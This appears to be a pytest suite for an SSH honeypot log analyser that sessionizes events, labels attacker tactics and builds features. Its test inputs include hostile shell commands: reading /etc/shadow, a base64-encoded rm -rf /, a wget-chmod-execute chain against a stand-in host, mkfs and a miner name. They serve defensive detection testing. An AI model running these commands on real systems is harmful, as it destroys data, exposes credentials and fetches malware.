"""Logs, sessions, features and labels on hand-made cases."""

import datetime as dt
import gzip
import ipaddress
import json
import re
import struct

import pytest
from pyspark.sql import functions as F

from tests.conftest import SMALL
from vigilspark import catalog, cli
from vigilspark.catalog import KEYWORDS, TOTALS
from vigilspark.functions.columns import decoded_payloads, hits, looks_like_typo, occurrences, rounded
from vigilspark.operators import agents, documents, features, labeler, sessionize
from vigilspark.plans import stored
from vigilspark.session import Settings, load_env
from vigilspark.sources import adapter, geo, logs, records
from vigilspark.streaming.sessions import flush_sessions, stream_sessions

COLUMNS = "location string, session string, seq long, kind string, ts timestamp, src_ip string, src_port int, dst_ip string, dst_port int, protocol string, ssh_version string, hassh string, hassh_algorithms string, username string, password string, input string, url string, shasum string, outfile string, destfile string, duration double, source_file string"
NAMES = [c.split()[0] for c in COLUMNS.split(", ")]
T0 = dt.datetime(2024, 1, 1, tzinfo=dt.timezone.utc)


def log(spark, *events):
    rows = []
    for i, e in enumerate(events):
        base = {"location": "x", "session": "s", "seq": i, "ts": T0 + dt.timedelta(seconds=e.pop("at", i)), "source_file": "f"}
        rows.append(tuple((base | e).get(c) for c in NAMES))
    return spark.createDataFrame(rows, COLUMNS)


def commands(*texts, gap=10.0):
    return [{"kind": "login.success", "username": "root", "password": "x", "at": 0}, *({"kind": "command.input", "input": t, "at": gap * (i + 1)} for i, t in enumerate(texts))]


def label(spark, *events):
    return labeler.labels(sessionize.sessions(log(spark, *events), rules=True)).first()


def test_patterns_agree_with_python(spark):
    texts = [*adapter.COMMANDS, "é sh ü", "a\tw\tb", "su root", "x\x1csh", "kill -9 1", "chmod +x\n", "ſh -c id", "", "who\r\n", "a b"]
    patterns = {r.name: r.pattern for r in catalog.RULES} | catalog.KEYWORDS | catalog.TOTALS | {"p": catalog.DECODE_PIPE, "b": catalog.DECODE_BARE, "e": catalog.ESCAPE_PIPE, "x": catalog.ESCAPE}
    d = spark.createDataFrame([(t,) for t in texts], "t string")
    got = d.select("t", *[hits(F.col("t"), p).alias(k) for k, p in patterns.items()], *[occurrences(F.col("t"), p).alias("n_" + k) for k, p in catalog.TOTALS.items()]).collect()
    for r in got:
        for k, p in patterns.items():
            assert r[k] == bool(re.search(catalog.python(p), r["t"], re.I)), (k, r["t"])
        for k, p in catalog.TOTALS.items():
            assert r["n_" + k] == len(re.findall(catalog.python(p), r["t"], re.I))
    met = {k for r in got for k in patterns if r[k]}
    assert met == set(patterns)


def test_a_close_begins_a_new_session(spark):
    got = sessionize.sessions(log(spark, *[{"kind": k} for k in ("session.connect", "command.input", "session.closed", "session.connect", "session.closed", "command.input")])).orderBy("seg").collect()
    assert [(r["event_count"], r["is_closed"]) for r in got] == [(3, True), (2, True), (1, False)]


def test_defaults_and_last_values(spark):
    r = sessionize.sessions(log(spark, {"kind": "login.failed", "username": "a"})).first()
    assert (r["src_ip"], r["src_port"], r["dst_port"], r["protocol"], r["duration_s"], r["session_type"]) == ("", 0, 22, "1", 0.0, "failed_auth_only")
    r = sessionize.sessions(log(
        spark, {"kind": "session.connect", "src_ip": "1.2.3.4", "dst_port": 0, "protocol": "ssh"}, {"kind": "client.version", "ssh_version": "a"}, {"kind": "client.version"}, {"kind": "login.success", "username": "a"}, {"kind": "login.success", "username": "b"},
        {"kind": "session.closed"}, {"kind": "odd.kind", "session": "t", "src_ip": "9.9.9.9"},
    )).where("session_id = 's'").first()
    assert (r["src_ip"], r["dst_port"], r["ssh_version"], r["final_username"], r["duration_s"], r["session_type"]) == ("1.2.3.4", 22, None, "b", 5.0, "success_no_commands")


def test_labels_of_the_cases(spark):
    assert label(spark, {"kind": "login.failed"})["primary_tactic"] == "Initial Access (Failed)"
    assert label(spark, {"kind": "login.success"})["primary_tactic"] == "No Action"
    r = label(spark, *commands("cat /etc/shadow", "crontab -l"))
    assert (r["level"], r["primary_tactic"], r["kill_chain_detected"]) == (1, "Kill Chain Detected", True) and "kill_chain" in r["matched_patterns"]
    r = label(spark, *commands("uname -a"))
    assert (r["level"], r["primary_tactic"], r["sophistication_score"], r["matched_patterns"]) == (3, "Discovery", 2, ["uname"])
    r = label(spark, *commands("echo cm0gLXJmIC8= | base64 -d"))
    assert "rm_rf" in r["matched_patterns"] and r["obfuscation_detected"]
    assert label(spark, *commands("foo"))["primary_tactic"] == "Unknown Activity (Low)"
    assert label(spark, *commands("foo > bar"))["primary_tactic"] == "Unknown Activity (High)"
    assert label(spark, *commands(*[f"zzzzqqq{i}" for i in range(5)]))["primary_tactic"] == "Unknown Activity (High)"
    assert label(spark, *commands(*["unme"] * 9))["primary_tactic"] == "Unknown Activity (Low)"
    assert label(spark, *commands("id", "id", gap=0.01))["behavior_tag"] == "MACHINE_SPEED"
    assert label(spark, *commands("id", "id", gap=60))["behavior_tag"] == "HUMAN_SPEED"


@pytest.mark.parametrize("chain", catalog.CHAINS, ids=lambda c: "+".join(sorted(c)))
def test_chains(spark, chain):
    one = {"Discovery": "uname", "Persistence": "crontab -l", "Execution": "./x", "Impact": "mkfs x", "Privilege Escalation": "chown a b", "Command and Control": "tftp a", "Credential Access": "useradd a", "Resource Hijacking": "minerd"}
    r = label(spark, *commands(*[one[t] for t in chain]))
    assert r["kill_chain_detected"] and r["level"] == 1 and set(r["all_tactics"]) == chain


def test_payloads_follow_the_lenient_decoder(spark):
    import base64

    blobs = ["aGVsbG8gd29ybGQ=", "aGVsbG8gd29ybGQ", "aGVsbG8gd29ybGQ==", "AAAAAAAA", "abcdefghij==", "abcdefgh=", base64.b64encode("grüße an alle".encode()).decode()]
    got = [r[0] for r in spark.createDataFrame([(b,) for b in blobs], "b string").select(decoded_payloads(F.col("b"))).collect()]
    for b, g in zip(blobs, got):
        try:
            s = base64.b64decode(b).decode()
            want = [s] if sum(c.isprintable() or c in "\n\r\t" for c in s) / len(s) > 0.8 else []
        except ValueError:
            want = []
        assert g == want, b


def test_typos(spark):
    words = ["unme -a", "uname", "./wgett x", "  ", "", "a" * 21, "zzzzqqq", "LS", "Lss"]
    got = [r[0] for r in spark.createDataFrame([(w,) for w in words], "w string").select(looks_like_typo(F.col("w"))).collect()]
    assert got == [True, False, True, False, False, False, False, False, True]


def test_rounding_is_that_of_python(spark):
    values = [2.675, 0.125, 1.005, -2.5e-3, 12345678.125, 0.0, 1e-9, 1234.5678]
    got = [r[0] for r in spark.createDataFrame([(v,) for v in values], "v double").select(rounded(F.col("v"), 2)).collect()]
    assert got == [round(v, 2) for v in values]


def test_features_are_82_and_documents_have_their_shape(spark):
    rows = documents.labelled(log(spark, {"kind": "session.connect", "src_ip": "81.2.3.4", "src_port": 50000}, *commands("wget http://a/b -O c", "ls > x | wc")), adapter.geo_ranges(spark))
    f = rows.select("features.*")
    assert len(f.columns) == 82
    r = f.first()
    assert (r["F28_keyword_wget"], r["F36_count_url"], r["F37_message_length"], r["F40_src_port_high"], r["F48_country_iso"], r["extra_min_inter_command_gap"]) == (1, 1, 32, 1, "GB", 10.0)
    flat = documents.flat(rows)
    assert len(flat.select("features.*").columns) == 73 and flat.first()["geo"] is None
    assert documents.nested(rows).first()["timing"]["start_ts"] == "2024-01-01T00:00:00+00:00"


def test_empty_session_has_zeros(spark):
    r = documents.labelled(log(spark, {"kind": "login.failed"})).select("features.*").first()
    assert (r["F1_keyword_bash"], r["F38_messages_per_sec"], r["extra_min_inter_command_gap"], r["extra_max_cmd_length"], r["F45_received_size_avg"]) == (0, 0.0, -1.0, 0, 0.0)


def test_narrowest_range_wins(spark):
    inner = ("81.2.3.0", "81.2.3.255", "XX", "Inner", "IN", "", "", 0.0, 0.0, "", 1)
    ranges = spark.createDataFrame([*adapter.GEO, inner], adapter.GEO_SCHEMA)
    d = spark.createDataFrame([("81.2.3.9",), ("81.2.4.9",), ("10.0.0.1",), ("9.9.9.9",), (None,), ("no",), ("81.2.3.9",)], "src_ip string")
    got = sorted((r["src_ip"] or "", r["F48_country_iso"]) for r in features.with_geo(d, ranges).collect())
    assert got == [("", ""), ("10.0.0.1", ""), ("81.2.3.9", "IN"), ("81.2.3.9", "IN"), ("81.2.4.9", "GB"), ("9.9.9.9", ""), ("no", "")]


def _write(path, *events):
    with gzip.open(path, "wt") as f:
        f.write("\n".join(e if isinstance(e, str) else json.dumps(e) for e in events) + "\n")


@pytest.fixture
def sensor(tmp_path):
    place = tmp_path / "ssh-ny"
    place.mkdir()
    e = lambda kind, at, **x: {"eventid": f"sensor.{kind}", "session": "a", "timestamp": f"2024-01-0{at}T00:00:00Z", **x}
    _write(place / "sensor.json.2024_1_10.gz", e("command.input", 3, input="ls -la"), e("session.closed", 4))
    _write(place / "sensor.json.2024_1_9.gz", e("session.connect", 1, src_ip="1.1.1.1"), "bad", "[1]", "", e("login.success", 2, username="root", password="p"), {"eventid": "sensor.login.failed", "session": "b", "timestamp": 5})
    _write(place / "other.log.gz", {"session": "c"})
    return tmp_path


def test_files_are_read_by_date_then_line(spark, sensor):
    files = logs.list_logs(spark, f"{sensor}/ssh-ny")
    assert [f.rsplit("/", 1)[-1] for f in files] == ["sensor.json.2024_1_9.gz", "sensor.json.2024_1_10.gz", "other.log.gz"]
    p = logs.parse_lines(logs.read_lines(spark, files, "ssh-ny"))
    assert tuple(logs.parse_counts(p).first()) == (3, 5, 3)
    s = {r["session_id"]: r for r in sessionize.sessions(p.where("not bad")).collect()}
    assert (s["a"]["is_closed"], s["a"]["src_ip"], s["a"]["n_commands"], s["a"]["event_count"]) == (True, "1.1.1.1", 1, 4)
    assert s["c"]["start_ts"] is None and s["c"]["duration_s"] == 0.0
    assert logs.read_logs(spark, f"{sensor}/nowhere", "x").count() == 0


def test_command_line_exports_and_records_come_back(spark, sensor, capsys):
    assert cli.main(["--location", "ssh-ny", "--data-dir", str(sensor), "--export", f"{sensor}/out"]) == 0
    back = records.read_records(spark, f"{sensor}/out", records.session_schema())
    assert sorted(r["session_id"] for r in back.collect()) == ["a", "c"]
    assert back.where("session_id = 'a'").first()["labels_rule_based"]["primary_tactic"] == "Discovery"
    assert cli.main(["--location", "ssh-ny", "--data-dir", str(sensor), "--dry-run"]) == 0 and capsys.readouterr().out.strip().endswith("2")
    assert cli.main(["--location", "ssh-ny", "--data-dir", str(sensor), "--table", f"{sensor}/table"]) == 0
    assert spark.read.parquet(f"{sensor}/table").where("location = 'ssh-ny'").count() == 2


def _streamed(spark, tmp_path, parts, flush=True, **more):
    e = spark.read.parquet("/root/testdata/sf0.001/events.parquet")
    out, state = str(tmp_path / "out"), str(tmp_path / "state")
    for part in parts:
        e.where(part).coalesce(1).write.mode("append").parquet(str(tmp_path / "in"))
        src = adapter.as_log(spark.readStream.schema(e.schema).parquet(str(tmp_path / "in")))
        stream_sessions(src, out, state, finish=lambda x: sessionize.sessions(x), **more).awaitTermination()
    if flush:
        flush_sessions(spark, out, state, finish=lambda x: sessionize.sessions(x))
        flush_sessions(spark, out, state, finish=lambda x: sessionize.sessions(x))
    cols = ["session_id", "seg", "event_count", "is_closed", "n_logins", "n_commands", "session_type"]
    rows = lambda d: sorted(map(tuple, d.select(*cols).collect()))
    return rows(spark.read.parquet(out)), rows(sessionize.sessions(adapter.as_log(e)))


def test_stream_equals_batch_over_three_batches(spark, tmp_path):
    got, want = _streamed(spark, tmp_path, ("event_id <= 400", "event_id > 400 and event_id < 700", "event_id >= 700"))
    assert got == want


def test_open_sessions_wait_for_the_flush(spark, tmp_path):
    got, want = _streamed(spark, tmp_path, ("event_id <= 500", "event_id > 500"), flush=False)
    assert got == [w for w in want if w[3]]


def test_sessions_expire_and_their_numbers_go_on(spark, tmp_path):
    got, want = _streamed(spark, tmp_path, ("event_id <= 400", "event_id > 400"), expire="1 second")
    keys = [g[:2] for g in got]
    assert len(keys) == len(set(keys)) and sum(g[2] for g in got) == sum(w[2] for w in want)
    by = {}
    for name, seg in keys:
        by.setdefault(name, []).append(seg)
    assert all(sorted(v) == list(range(len(v))) for v in by.values())


def test_a_flushed_stream_goes_on(spark, tmp_path):
    _streamed(spark, tmp_path, ("event_id <= 300",))
    got, want = _streamed(spark, tmp_path, ("event_id > 300",))
    keys = [g[:2] for g in got]
    assert len(keys) == len(set(keys)) and sum(g[2] for g in got) == sum(w[2] for w in want)


def test_commands_from_export_to_evaluation(spark, sensor, capsys, tmp_path):
    e = lambda s, kind, at, **x: {"eventid": f"sensor.{kind}", "session": s, "timestamp": f"2024-01-01T00:{at:02}:00Z", **x}
    rows = []
    for k in range(30):
        cmds = ["ls -la", "wget http://a/b; chmod 777 b; ./b"][: 1 + (k % 3 == 0)]
        rows += [e(f"s{k}", "session.connect", 1, src_ip="81.2.3.4"), e(f"s{k}", "login.success", 2, username="root", password="p"), *[e(f"s{k}", "command.input", 3 + i, input=c) for i, c in enumerate(cmds)], e(f"s{k}", "session.closed", 9)]
    place = sensor / "ssh-x"
    place.mkdir()
    _write(place / "sensor.json.2024_1_1.gz", *rows)
    at = lambda name: str(tmp_path / "made" / name)
    (tmp_path / "made").mkdir()
    (tmp_path / "made/blocks.csv").write_text("network,geoname_id,latitude,longitude,accuracy_radius\n81.2.0.0/16,7,1.5,2.5,10\n")
    (tmp_path / "made/names.csv").write_text("geoname_id,continent_code,country_name,country_iso_code,subdivision_1_name,city_name,time_zone\n7,EU,Land,LD,R,C,T\n")
    assert cli.main(["sessions", "--location", "ssh-x", "--data-dir", str(sensor), "--export", at("flat"), "--geo", at("blocks.csv"), "--geo-names", at("names.csv")]) == 0
    assert spark.read.json(at("flat")).where("geo.F48_country_iso = 'LD'").count() == 30
    assert cli.main(["check", "--input", at("flat")]) == 0 and json.loads(capsys.readouterr().out.splitlines()[-1]) == {"total": 30, "bad": 0}
    (tmp_path / "made/bad.json").write_text('{"session_id": "x"}\n')
    assert cli.main(["check", "--input", at("bad.json")]) == 1
    assert cli.main(["train", "--input", at("flat"), "--model", at("model.json"), "--min-samples", "5"]) == 0 and "trained=True" in capsys.readouterr().out
    assert cli.main(["review", "--input", at("flat"), "--output", at("dry"), "--dry-run", "--limit", "10"]) == 0
    dry = spark.read.json(at("dry"))
    assert dry.count() == dry.where("labels_agentic.was_anomaly and not labels_agentic.pipeline_metrics.sent_to_hunter").count() == 10
    assert cli.main(["review", "--input", at("flat"), "--output", at("labelled"), "--client", "tests.test_sessions:failing_client", "--rpm", "100000"]) == 0
    said = json.loads(capsys.readouterr().out.splitlines()[-1])
    assert (said["sent_to_hunter"], said["errors"]) == (30, 10)
    assert cli.main(["retry", "--input", at("labelled"), "--output", at("merged"), "--rpm", "100000"]) == 0
    assert json.loads(capsys.readouterr().out.splitlines()[-1]) == {"merged": 10, "unchanged": 20, "not_found": 0}
    merged = spark.read.json(at("merged"))
    assert merged.where("labels_agentic.analyst_verdict.level = 1").count() == 10 and merged.where("labels_agentic.hunter_verdict = 'NOISE'").count() == 20
    assert cli.main(["retry", "--again", "--input", at("merged"), "--output", at("again"), "--rpm", "100000"]) == 0
    assert spark.read.json(at("again")).where("labels_agentic.analyst_verdict.level = 1").count() == 10
    assert cli.main(["report", "--input", at("merged"), "--output", at("report.json")]) == 0
    assert json.loads((tmp_path / "made/report.json").read_text())["funnel"][0]["dual_labeled"] == 10
    assert cli.main(["sample", "--input", at("merged"), "--output", at("sample"), "--total", "60"]) == 0
    meta = json.loads((tmp_path / "made/sample/metadata.json").read_text())
    full = spark.read.json(at("sample/full"))
    assert meta["final_sample"]["total"] == full.count() > 0 and "agent_label" not in spark.read.json(at("sample/blind")).columns
    votes = [{"annotation_id": r["annotation_id"], "annotator": a, "primary_tactic": "Execution", "threat_level": 1, "confidence": 3, "is_false_negative_risk": False} for r in full.collect() for a in "xy"]
    (tmp_path / "made/votes.json").write_text("\n".join(map(json.dumps, votes)))
    assert cli.main(["evaluate", "--full", at("sample/full"), "--votes", at("votes.json"), "--output", at("scores.json"), "--resamples", "50"]) == 0
    scores = json.loads((tmp_path / "made/scores.json").read_text())
    assert scores["b_overall"][0]["accuracy"] == 1.0 and scores["annotators"][0]["n_overlap"] == full.count()


def failing_client():
    return agents.ScriptedClient(fail_on="chmod 777")


def test_settings_come_from_a_file_unless_they_are_there(tmp_path, monkeypatch):
    monkeypatch.setenv("THERE", "old")
    monkeypatch.setenv("DATA_DIR", "x")
    monkeypatch.delenv("DATA_DIR")
    (tmp_path / ".env").write_text("# note\nTHERE=new\n DATA_DIR = /logs = a \nno pair\n")
    assert load_env(str(tmp_path / ".env")) == {"DATA_DIR": "/logs = a"} and Settings().data_dir == "/logs = a"
    monkeypatch.delenv("DATA_DIR")
    assert load_env(str(tmp_path / "none")) == {}


def _mmdb(nets: list[tuple[str, dict]], bits: int) -> bytes:
    """A database as its format says: tree, 16 zeros, values, mark, metadata."""

    def encode(v) -> bytes:
        if isinstance(v, bool):
            return bytes([int(v), 7])
        kind, raw = (2, v.encode()) if isinstance(v, str) else (3, struct.pack(">d", v)) if isinstance(v, float) else (6, v.to_bytes(4, "big")) if isinstance(v, int) else (7, b"") if isinstance(v, dict) else (11, b"")
        if kind == 7:
            return bytes([kind << 5 | len(v)]) + b"".join(encode(k) + encode(x) for k, x in v.items())
        if kind == 11:
            return bytes([len(v), 4]) + b"".join(map(encode, v))
        size = len(raw)
        return bytes([kind << 5 | min(size, 29)]) + (bytes([size - 29]) if size >= 29 else b"") + raw

    nodes: list[list] = [[None, None]]
    data, at = b"", []
    for _, place in nets:
        at.append(len(data))
        data += encode(place)
    for (net, _), offset in zip(nets, at):
        ip, size = net.split("/")
        n, node = int(ipaddress.ip_address(ip)), 0
        for i in range(int(size)):
            side = n >> 31 - i & 1
            if i == int(size) - 1:
                nodes[node][side] = ("data", offset)
            else:
                if nodes[node][side] is None:
                    nodes.append([None, None])
                    nodes[node][side] = len(nodes) - 1
                node = nodes[node][side]
    count, tree = len(nodes), b""
    for pair in nodes:
        a, b = (count if x is None else count + 16 + x[1] if isinstance(x, tuple) else x for x in pair)
        tree += (a & 0xFFFFFF).to_bytes(3, "big") + bytes([a >> 24 << 4 | b >> 24]) + (b & 0xFFFFFF).to_bytes(3, "big") if bits == 28 else a.to_bytes(bits // 8, "big") + b.to_bytes(bits // 8, "big")
    return tree + bytes(16) + data + b"\xab\xcd\xefMaxMind.com" + encode({"node_count": count, "record_size": bits, "ip_version": 4})


@pytest.mark.parametrize("bits", [24, 28, 32])
def test_ranges_of_a_city_database(spark, tmp_path, bits):
    city = {"continent": {"code": "EU"}, "country": {"iso_code": "GB", "names": {"en": "United Kingdom", "fr": "Royaume-Uni"}}, "city": {"names": {"en": "A city with a name of more than thirty letters"}}, "subdivisions": [{"names": {"en": "England"}}], "location": {"longitude": -0.1, "latitude": 51.5, "time_zone": "Europe/London", "accuracy_radius": 10}}
    (tmp_path / "c.mmdb").write_bytes(_mmdb([("81.2.0.0/17", city), ("9.9.9.9/32", {"country": {"iso_code": "US"}, "extra": True})], bits))
    rows = {(r["low"], r["high"]): r for r in geo.read_geo(spark, str(tmp_path / "c.mmdb")).collect()}
    assert set(rows) == {("81.2.0.0", "81.2.127.255"), ("9.9.9.9", "9.9.9.9")}
    r = rows["81.2.0.0", "81.2.127.255"]
    assert tuple(r)[2:] == ("EU", "United Kingdom", "GB", "England", "A city with a name of more than thirty letters", -0.1, 51.5, "Europe/London", 10)
    assert rows["9.9.9.9", "9.9.9.9"]["country_iso"] == "US" and rows["9.9.9.9", "9.9.9.9"]["city_name"] == ""
    assert geo.read_geo(spark, str(tmp_path / "none.mmdb")) is None and geo.read_geo(spark, "") is None


def test_a_table_keeps_its_mapping(spark, tmp_path):
    d = spark.createDataFrame([("a", "x", 1), (None, "y", 2)], "session_id string, location string, n int")
    path = str(tmp_path / "t")
    records.create_table(spark, path, d.schema)
    assert records.insert(d, path) == {"written": 2, "unnamed": 1, "locations": 2}
    records.insert(d.select("session_id", "location"), path)
    assert records.read_table(spark, path).schema == d.schema and records.read_table(spark, path).count() == 4
    with pytest.raises(ValueError):
        records.insert(d.withColumn("more", d["n"]), path)
    with pytest.raises(Exception):
        records.create_table(spark, path, d.schema)
    records.create_table(spark, path, d.schema, replace=True)
    records.insert(d, path)
    assert records.read_table(spark, path).count() == 2


@pytest.mark.parametrize("known,longest", [(4096, 2048), (3, 2048), (4096, 12)])
def test_known_commands_get_the_answers_of_the_others(spark, known, longest, monkeypatch):
    """Commands that are looked at once, in a table, and those looked at in their rows."""
    events = adapter.log_events(spark, SMALL)
    cols = [*KEYWORDS, *TOTALS, *sessionize.MASKS, "obfuscation", "any_suspicious", "n_plain_unknown"]
    rows = lambda: sorted(map(str, sessionize.sessions(events, keywords=True, rules=True).select("session_id", "seg", *cols).collect()))
    monkeypatch.setattr(sessionize, "KNOWN", 0)
    want = rows()
    monkeypatch.setattr(sessionize, "KNOWN", known)
    monkeypatch.setattr(sessionize, "LONGEST", longest)
    assert rows() == want and len(want) > 40
    texts = events.select(sessionize.command_text().alias("c")).where("c is not null").distinct()
    looked = []
    catalog = sessionize.with_catalog
    monkeypatch.setattr(sessionize, "with_catalog", lambda df, *more: (looked.append(df), catalog(df, *more))[1])
    sessionize.sessions(events, keywords=True, rules=True)
    table, in_rows = looked
    assert table.count() == min(known, texts.where(F.octet_length("c") <= longest).count())
    assert in_rows.where("__text is not null").select("__text").distinct().count() == texts.count() - table.count()


def test_sessions_without_any_command(spark):
    s = sessionize.sessions(adapter.log_events(spark, SMALL).where("kind = 'session.connect'"), keywords=True, rules=True)
    row = s.agg(F.count(F.lit(1)), F.sum("mask0"), F.sum("F1_keyword_bash"), F.count_if("any_suspicious"), F.count("obfuscation")).first()
    assert row[0] > 0 and row[4] == row[0] and row[1:4] == (0, 0, 0)


@pytest.mark.parametrize("name", ["o019_sink", "o153_reanalyze"])
def test_documents_are_made_once(spark, name, monkeypatch):
    made = spark.sparkContext.accumulator(0)
    labelled = documents.labelled

    def counted(events, *more):
        rows = labelled(events, *more)

        def tell(batches):
            for b in batches:
                made.add(b.num_rows)
                yield b

        return rows.mapInArrow(tell, rows.schema)

    want = labelled(adapter.log_events(spark, SMALL)).count()
    monkeypatch.setattr(documents, "labelled", counted)
    stored.QUERIES[name](spark, SMALL).collect()
    assert made.value == want


def test_a_stream_looks_at_known_commands_once(spark, monkeypatch):
    """In a micro-batch and in the flush no row has a text left to look at."""
    left = []
    catalog = sessionize.with_catalog
    monkeypatch.setattr(sessionize, "with_catalog", lambda df, *more: (left.append(df.where("__text is not null").count() if "__cmd" in df.columns else None), catalog(df, *more))[1])
    assert stored.QUERIES["o155_stream_sessions"](spark, SMALL).count() > 40
    assert left == [None, 0, None, 0]
